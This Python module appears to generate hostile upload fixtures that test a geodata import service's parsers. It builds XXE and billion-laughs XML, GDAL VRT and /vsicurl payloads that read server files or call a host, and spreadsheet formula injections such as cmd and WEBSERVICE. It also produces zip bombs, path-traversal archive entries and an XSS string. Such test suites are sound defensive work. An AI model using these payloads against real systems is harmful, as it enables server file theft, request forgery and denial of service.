"""Makes the hostile files: (what it is, file name, bytes). `SECRET` stands for a file of the server, `URL` for a host to call."""

from __future__ import annotations

import gzip
import json
import random
import zipfile
from collections.abc import Iterator
from io import BytesIO

from tests.intake.making import (
    EMPTY_ZIP,
    LAT,
    LON,
    X,
    Y,
    circle,
    csv_of,
    feature,
    geojson,
    gpkg,
    kml,
    ods,
    ods_of,
    point,
    polygon,
    rezipped,
    shapefile,
    sheet_xml,
    wkb_point,
    wkb_polygon,
    xls,
    xlsx,
)

Hostile = tuple[str, str, bytes]
MIB = 1024 * 1024
VRT = '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "{}">]>'
LAUGHS = "<!DOCTYPE a [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)) + "]>"
CALLS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+cmd|' /C x'!A1",
    "-2+3",
    '=HYPERLINK("{url}")',
    '=WEBSERVICE("{url}")',
    "\t=1",
    "＝1",
    "\u200b=1",
)
NUMBERS = ("NaN", "inf", "-inf", "1e999", "0x10", "1_000", "٣٤", "１２", "12O", "9" * 500, "1,2,3", "--5", "1e-99999", "0" * 1_000)
HIDDEN = ("\u202e", "\u2066", "\u200b", "\x1b[31m", "\x07", "\ufeff", "\u2028", "\x85", "\ue000", "\x7f")


def hostile_files(secret: str, url: str) -> Iterator[Hostile]:
    """Every hostile file."""
    yield from disguised(secret, url)
    yield from texts(url)
    yield from maps()
    yield from workbooks(secret, url)
    yield from packages()
    yield from other_workbooks(secret, url)
    yield from other_maps(secret, url)


def disguised(secret: str, url: str) -> Iterator[Hostile]:
    """One format under the name of another."""
    bodies = {
        "vrt to a file": VRT.format(secret).encode(),
        "vrt to a host": VRT.format(f"/vsicurl/{url}").encode(),
        "vrt behind blanks": b"\xef\xbb\xbf \n" + VRT.format(secret).encode(),
        "raster vrt": f"<VRTDataset><VRTRasterBand><SourceFilename>{secret}</SourceFilename></VRTRasterBand></VRTDataset>".encode(),
        "gdalg": json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector convert {secret} a"}).encode(),
        "esri json": json.dumps({"url": url, "features": []}).encode(),
        "kml": f'<?xml version="1.0"?><kml><NetworkLink><href>{url}</href></NetworkLink></kml>'.encode(),
        "path": secret.encode(),
        "vsi path": f"/vsicurl/{url}".encode(),
        "connection": f"WFS:{url}".encode(),
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret}"/></svg>'.encode(),
        "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 50,
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "elf": b"\x7fELF" + b"\x00" * 100,
    }
    for what, body in bodies.items():
        for ending in ("csv", "xlsx", "geojson", "gpkg"):
            yield what, f"a.{ending}", body
    for ending in ("zip", "vrt", "kml", "shp", "gml", "xls", "", "csv.vrt", "php", "\x00csv/../../x"):
        yield "under any name", f"a.{ending}", bodies["vrt to a file"]


def texts(url: str) -> Iterator[Hostile]:
    """CSV files."""
    place = "1, rue;5,3691;43,3487"
    for call in CALLS:
        yield "formula", "a.csv", csv_of(f'"{call.format(url=url).replace(chr(34), chr(34) * 2)}";{place};80')
    for number in NUMBERS:
        yield "no number", "a.csv", csv_of(f'A;{place};"{number}"')
        yield "no coordinate", "a.csv", csv_of(f'A;1, rue;"{number}";43,3487;80')
    for char in HIDDEN:
        yield "hidden character", "a.csv", csv_of(f"A{char}B;{place};80")
    yield "one long cell", "a.csv", csv_of("x" * 9 * MIB)
    yield "quote bomb", "a.csv", csv_of('"' + 'a""' * 3 * MIB)
    yield "quote never closed", "a.csv", csv_of('"' + "a\n" * 4 * MIB)
    yield "quotes and quotes", "a.csv", csv_of('"' * 8 * MIB)
    yield "separators", "a.csv", csv_of(";" * 9 * MIB)
    yield "separators in the headings", "a.csv", b";" * 9 * MIB
    yield "blank lines", "a.csv", csv_of("\n" * 9 * MIB)
    yield "headings that are the same", "a.csv", b";".join([b"Nom"] * 200) + b"\nA\n"
    yield "too many rows", "a.csv", csv_of(*["A;b;5;43;80"] * 50_001)
    yield "all the same place", "a.csv", csv_of(*[f"A;{place};80"] * 5_000)
    yield "too big", "a.csv", b"a" * (10 * MIB + 1)
    yield "null bytes", "a.csv", csv_of(f"A\x00B;{place};80")
    yield "bad utf-8", "a.csv", csv_of(f"A;{place};80") + b"\xc3\x28\x81\x8d"
    yield "half a utf-8", "a.csv", csv_of("é")[:-1]
    yield "utf-16", "a.csv", csv_of(f"A;{place};80").decode().encode("utf-16")
    yield "utf-7", "a.csv", b"Nom\n+ADw-script+AD4-\n"
    yield "old line ends", "a.csv", csv_of(f"A;{place};80").replace(b"\n", b"\r")
    yield "only a mark", "a.csv", b"\xef\xbb\xbf"
    yield "script", "a.csv", csv_of(f"<img src=x onerror=alert(1)>;{place};80")
    for x, y in ((LAT, LON), (X, Y), (X / 1000, Y / 1000), (Y, X), (0, 0), (2.35, 48.85), (181, 91), (-LON, LAT), (X * 1000, Y * 1000)):
        yield "misplaced", "a.csv", csv_of(f"A;1, rue;{x};{y};80")
    rng = random.Random(7)
    for _seed in range(12):
        yield "random bytes", "a.csv", rng.randbytes(rng.randint(1, 3_000)).replace(b"\x00", b"")


def maps() -> Iterator[Hostile]:
    """GeoJSON files."""
    for number in ("NaN", "Infinity", "-Infinity", "1e999", "9" * 5_000, "1e", "0x1", "null", '"5"', "true", "[]", "{}"):
        yield "coordinate", "a.geojson", geojson(feature(point(x="%"))).replace(b'"%"', number.encode())
        yield "property", "a.geojson", geojson(feature(point(), surface="%")).replace(b'"%"', number.encode())
    for opening in (b"[", b'{"a":', b'{"type":"FeatureCollection","features":[', b'[{"a":['):
        yield "deep", "a.geojson", opening * (5 * MIB // len(opening))
        yield "deep and closed", "a.geojson", opening * 900 + b"1"
    yield "deep coordinates", "a.geojson", geojson(feature({"type": "Polygon", "coordinates": json.loads("[" * 500 + "]" * 500)}))
    yield "wide", "a.geojson", b"[" + b"[]," * 3 * MIB + b"[]]"
    yield "objects", "a.geojson", b'{"type":"FeatureCollection","features":[' + b"{}," * 3 * MIB + b"{}]}"
    yield "vertices", "a.geojson", geojson(feature(polygon(circle(5_001))))
    yield "many vertices", "a.geojson", geojson(feature(polygon(circle(60_000))))
    yield "rings", "a.geojson", geojson(feature(polygon(*[circle(4)] * 20_000)))
    comb = [[LON + ((n * 7) % 400) / 1e5, LAT + ((n * 311) % 400) / 1e5] for n in range(400)]
    yield "crossings", "a.geojson", geojson(*[feature(polygon([*comb, comb[0]]))] * 50)
    spikes = [[LON + n / 1e6, LAT + (n % 2) / 1e2] for n in range(4_998)]
    yield "spikes", "a.geojson", geojson(*[feature(polygon([*spikes, [LON, LAT - 1], spikes[0]]))] * 10)
    yield "bow-tie", "a.geojson", geojson(feature(polygon([[5.3, 43.3], [5.4, 43.4], [5.4, 43.3], [5.3, 43.4], [5.3, 43.3]])))
    for kind in ("LineString", "GeometryCollection", "MultiLineString", "Circle", "", None, 5, [], {}):
        yield "type of geometry", "a.geojson", geojson(feature({"type": kind, "coordinates": [[5, 43], [6, 44]]}))
    for crs in ({"type": "link", "properties": {"href": "http://127.0.0.1:9/a"}}, {"properties": {"name": "EPSG:" + "9" * 70}}, [], 5):
        yield "system", "a.geojson", geojson(feature(point()), crs=crs)
    for x, y in ((LAT, LON), (X, Y), (X / 1000, Y / 1000), (0, 0), (1e308, -1e308), (float(2**60), 0)):
        yield "misplaced", "a.geojson", geojson(feature(point(x, y)))
    for char in HIDDEN:
        yield "hidden character", "a.geojson", geojson(feature(point(), nom=f"A{char}B"))
    yield "lone surrogate", "a.geojson", geojson(feature(point(), nom="\ud800"))
    yield "keys of javascript", "a.geojson", geojson(feature(point(), **{"__proto__": {"a": 1}, "constructor": 1}))
    yield "no name", "a.geojson", geojson(feature(point(), **{"": 1, " ": 2}))
    yield "long key", "a.geojson", geojson(feature(point(), **{"k" * 500_000: 1}))
    yield "long text", "a.geojson", geojson(feature(point(), notes="x" * 5 * MIB))
    yield "many keys", "a.geojson", geojson(feature(point(), **{f"k{n}": n for n in range(100_000)}))
    yield "utf-16", "a.geojson", geojson(feature(point())).decode().encode("utf-16")
    yield "null bytes", "a.geojson", geojson(feature(point())).replace(b"Lieu", b"Li\x00eu")
    yield "two documents", "a.geojson", geojson(feature(point())) * 2
    whole = geojson(feature(polygon(circle(8))))
    for cut in range(10, len(whole), 40):
        yield "cut short", "a.geojson", whole[:cut]


def workbooks(secret: str, url: str) -> Iterator[Hostile]:
    """XLSX files."""
    good = xlsx([["Nom", "Adresse", "Surface"], ["A", "1, rue du Port", 80]])
    sheet = "xl/worksheets/sheet1.xml"

    def with_cells(cells: str, before: str = "") -> bytes:
        return rezipped(good, {sheet: sheet_xml(cells, before)})

    yield "bomb", "a.xlsx", with_cells(" " * 60 * MIB)
    yield "bomb in the texts", "a.xlsx", rezipped(good, {"xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 2 * MIB})
    yield "bomb elsewhere", "a.xlsx", rezipped(good, {"xl/media/a.png": b"\x00" * 60 * MIB})
    yield "parts", "a.xlsx", rezipped(good, {f"xl/media/{n}": b"" for n in range(2_000)})
    yield "parts by the thousand", "a.xlsx", _many_parts(15_000)
    yield "archive in it", "a.xlsx", rezipped(good, {sheet: good})
    yield "paths", "a.xlsx", rezipped(good, {"../../../tmp/x": b"x", "/etc/x": b"x", "C:\\x": b"x", "xl/../../x": b"x"})
    yield (
        "corner cell",
        "a.xlsx",
        with_cells('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    )
    yield "last row", "a.xlsx", with_cells('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')
    yield "beyond the sheet", "a.xlsx", with_cells('<row r="1"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')
    yield "no reference", "a.xlsx", with_cells("<row><c><v>1</v></c></row>" * 1_000)
    yield "backwards", "a.xlsx", with_cells('<row r="9"><c r="B9"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>')
    yield "text that is not there", "a.xlsx", with_cells('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')
    yield "style that is not there", "a.xlsx", with_cells('<row r="1"><c r="A1" s="99999999"><v>1</v></c></row>')
    for value in ("NaN", "INF", "1e999", "-1e400", "12O", "&#0;", "&b;", "<a/>"):
        yield "value", "a.xlsx", with_cells(f'<row r="1"><c r="A1"><v>{value}</v></c></row>')
    for what, before in (("xxe", XXE.format(f"file://{secret}")), ("xxe to a host", XXE.format(url)), ("laughs", LAUGHS)):
        yield what, "a.xlsx", with_cells('<row r="1"><c r="A1" t="inlineStr"><is><t>&b;&l9;</t></is></c></row>', before)
        for part in ("xl/workbook.xml", "xl/sharedStrings.xml", "[Content_Types].xml", "xl/styles.xml"):
            with zipfile.ZipFile(BytesIO(good)) as archive:
                body = archive.read(part).partition(b"?>")[2]
            yield what, "a.xlsx", rezipped(good, {part: before.encode() + body})
    hidden = ('<?xml version="1.0" encoding="UTF-16"?>' + XXE.format(secret) + "<a>&b;</a>").encode("utf-16")
    yield "xxe in utf-16", "a.xlsx", rezipped(good, {sheet: hidden})
    link = f'<Relationships><Relationship Id="rId1" Type="t" TargetMode="External" Target="{url}"/></Relationships>'.encode()
    yield "sheet elsewhere", "a.xlsx", rezipped(good, {"xl/_rels/workbook.xml.rels": link})
    yield "external link", "a.xlsx", rezipped(good, {"xl/worksheets/_rels/sheet1.xml.rels": link})
    yield "no sheet", "a.xlsx", rezipped(good, {sheet: None})
    yield "nested tags", "a.xlsx", with_cells("<a>" * 200_000)
    yield "formula", "a.xlsx", with_cells(f'<row r="1"><c r="A1" t="str"><f>WEBSERVICE("{url}")</f><v>Nom</v></c></row>')
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield "compression", "a.xlsx", rezipped(good, {sheet: sheet_xml(" " * 20 * MIB)}, method)
    yield "password", "a.xlsx", good.replace(b"PK\x01\x02\x14\x00\x14\x00\x00\x00", b"PK\x01\x02\x14\x00\x14\x00\x01\x00")
    yield "only the archive's end", "a.xlsx", b"PK\x05\x06" + b"\x00" * 18
    yield "two archives", "a.xlsx", good + good
    yield "something before", "a.xlsx", b"x" * 1_000 + good
    for cut in range(100, len(good), 700):
        yield "cut short", "a.xlsx", good[:cut]
    rng = random.Random(11)
    for _seed in range(10):
        at = rng.randrange(len(good))
        yield "damaged", "a.xlsx", good[:at] + rng.randbytes(4) + good[at + 4 :]


def _many_parts(count: int) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(count):
            archive.writestr(f"{number}", b"")
    return buffer.getvalue()


def packages() -> Iterator[Hostile]:
    """GeoPackage files."""
    good = gpkg()
    yield "nothing behind the magic", "a.gpkg", b"SQLite format 3\x00" + b"\xff" * 5_000
    yield "write-ahead mode", "a.gpkg", good[:18] + b"\x02\x02" + good[20:]
    yield "page of another size", "a.gpkg", good[:16] + b"\x00\x01" + good[18:]
    yield "cut short", "a.gpkg", good[: len(good) // 2]
    rng = random.Random(13)
    for _seed in range(3):
        at = rng.randrange(100, len(good))
        yield "damaged", "a.gpkg", good[:at] + rng.randbytes(64) + good[at + 64 :]
    yield "shapes that lie", "a.gpkg", gpkg(geometries=[b"\x01\x03\x00\x00\x00\xff\xff\xff\x7f" + b"\x00" * 64])
    yield "deep collection", "a.gpkg", gpkg(geometries=[b"\x01\x07\x00\x00\x00\x01\x00\x00\x00" * 20_000 + wkb_point()])
    yield "numbers that are none", "a.gpkg", gpkg(geometries=[wkb_point(float("nan"), float("inf"))])
    yield "numbers that are none", "a.gpkg", gpkg(geometries=[wkb_polygon([(LON, LAT), (float("inf"), LAT), (LON, 1e308), (LON, LAT)])])
    yield "no name", "a.gpkg", gpkg([["Lieu", "1, rue", 3]], columns=["nom", "adresse", " "])
    yield "vertices", "a.gpkg", gpkg(geometries=[wkb_polygon(circle(60_000))])
    yield "misplaced", "a.gpkg", gpkg(geometries=[wkb_point(LAT, LON)])
    yield "metres as degrees", "a.gpkg", gpkg(geometries=[wkb_point(X, Y)])
    yield "long text", "a.gpkg", gpkg([["x" * 5 * MIB, "b"]])


def other_workbooks(secret: str, url: str) -> Iterator[Hostile]:
    """ODS and XLS files, and compressed ones."""
    rows = [["Nom", "Adresse", "Surface"], ["A", "1, rue du Port", 80]]
    good, old = ods(rows), xls(rows)
    yield "bomb in an ods", "a.ods", rezipped(good, {"content.xml": b" " * 60 * MIB})
    cell = '<table:table-cell office:value-type="string"{}><text:p>{}</text:p></table:table-cell>'
    for rows_n, columns_n in ((1_048_576, 16_384), (1_048_576, 1), (1, 16_384), (20_000, 200)):
        row = f'<table:table-row table:number-rows-repeated="{rows_n}">'
        repeated = cell.format(f' table:number-columns-repeated="{columns_n}"', "x" * 50)
        yield "cells repeated", "a.ods", ods_of(f'<table:table table:name="a">{row}{repeated}</table:table-row></table:table>')
    for what, before in (("xxe in an ods", XXE.format(f"file://{secret}")), ("laughs in an ods", LAUGHS)):
        yield what, "a.ods", ods([["Nom", "&b;"]], before=before)
    yield "depth in an ods", "a.ods", ods_of("<table:table>" * 100_000)
    link = f'<table:table table:name="a"><table:table-source xlink:href="{url}"/></table:table>'
    yield "link in an ods", "a.ods", ods_of(link)
    yield "no content in an ods", "a.ods", rezipped(good, {"content.xml": b""})
    yield "compressed bomb", "a.csv.gz", gzip.compress(b"Nom;Adresse\n" + b"A;b\n" * 40 * MIB)
    yield "compressed twice", "a.csv.gz", gzip.compress(gzip.compress(csv_of("A;b;5;43;80")))
    yield "archive in an archive", "a.zip", rezipped(EMPTY_ZIP, {"a.xlsx": rezipped(EMPTY_ZIP, {"a.csv": b"Nom"})})
    yield "bomb in a zip", "a.zip", rezipped(EMPTY_ZIP, {"a.csv": b"\n" * 60 * MIB})
    rng = random.Random(17)
    for name, data in (("a.ods", good), ("a.xls", old), ("a.csv.gz", gzip.compress(csv_of("A;b;5;43;80")))):
        for cut in (len(data) // 3, len(data) // 2, len(data) - 20):
            yield f"cut short {name}", name, data[:cut]
        for _seed in range(6):
            at = rng.randrange(len(data))
            yield f"damaged {name}", name, data[:at] + rng.randbytes(8) + data[at + 8 :]
    for at in range(512, 1_536, 128):
        yield "links of a compound file", "a.xls", old[:at] + b"\x01\x00\x00\x00" * 32 + old[at + 128 :]


def other_maps(secret: str, url: str) -> Iterator[Hostile]:
    """KML files and zipped Shapefiles."""
    for what, before in (
        ("xxe in a kml", XXE.format(f"file://{secret}")),
        ("xxe to a host in a kml", XXE.format(url)),
        ("laughs in a kml", LAUGHS),
    ):
        yield what, "a.kml", kml("&b;&l9;", before=before)
    hidden = '<?xml version="1.0" encoding="UTF-16"?>' + XXE.format(secret) + "<kml><Placemark><name>&b;</name></Placemark></kml>"
    yield "xxe in utf-16 in a kml", "a.kml", hidden.encode("utf-16")
    yield "depth in a kml", "a.kml", kml(more="<Folder>" * 500_000)
    yield "elements in a kml", "a.kml", kml(more="<a/>" * 2 * MIB)
    yield "link in a kml", "a.kml", kml("A", more=f"<NetworkLink><Link><href>{url}</href></Link></NetworkLink>")
    yield "attributes in a kml", "a.kml", kml(more="<a " + " ".join(f'b{n}="c"' for n in range(200_000)) + "/>")
    for place in ("NaN,NaN", "inf,1", "1e999,2", "a,b", "5", "", "5.4,43.3 " * 300_000):
        point_of = f"<Placemark><name>A</name><Point><coordinates>{place}</coordinates></Point></Placemark>"
        ring = f"<outerBoundaryIs><LinearRing><coordinates>{place}</coordinates></LinearRing></outerBoundaryIs>"
        ring = f"<Placemark><Polygon>{ring}</Polygon></Placemark>"
        yield "coordinates in a kml", "a.kml", kml(more=point_of + ring)
    yield "bomb in a kmz", "a.kmz", rezipped(EMPTY_ZIP, {"doc.kml": kml("A") + b" " * 60 * MIB})
    good = shapefile("A", "B")
    with zipfile.ZipFile(BytesIO(good)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        yield f"no {name[-4:]}", "a.zip", rezipped(good, {name: None})
        yield f"cut {name[-4:]}", "a.zip", rezipped(good, {name: content[: len(content) // 2]})
        yield f"noise {name[-4:]}", "a.zip", rezipped(good, {name: content[:40] + b"\xff" * 60 + content[100:]})
    yield (
        "vrt in a shapefile",
        "a.zip",
        rezipped(good, {"lieux.vrt": VRT.format(secret).encode(), "lieux.shp": VRT.format(secret).encode()}),
    )
    yield "paths in a shapefile", "a.zip", rezipped(EMPTY_ZIP, {f"../../tmp/{name}": content for name, content in parts.items()})
    yield "bomb in a shapefile", "a.zip", rezipped(good, {"lieux.dbf": b"\x00" * 60 * MIB})
    yield "system of a shapefile", "a.zip", rezipped(good, {"lieux.prj": b"/vsicurl/" + url.encode()})
    for cut in (50, len(good) // 2, len(good) - 30):
        yield "cut short shapefile", "a.zip", good[:cut]
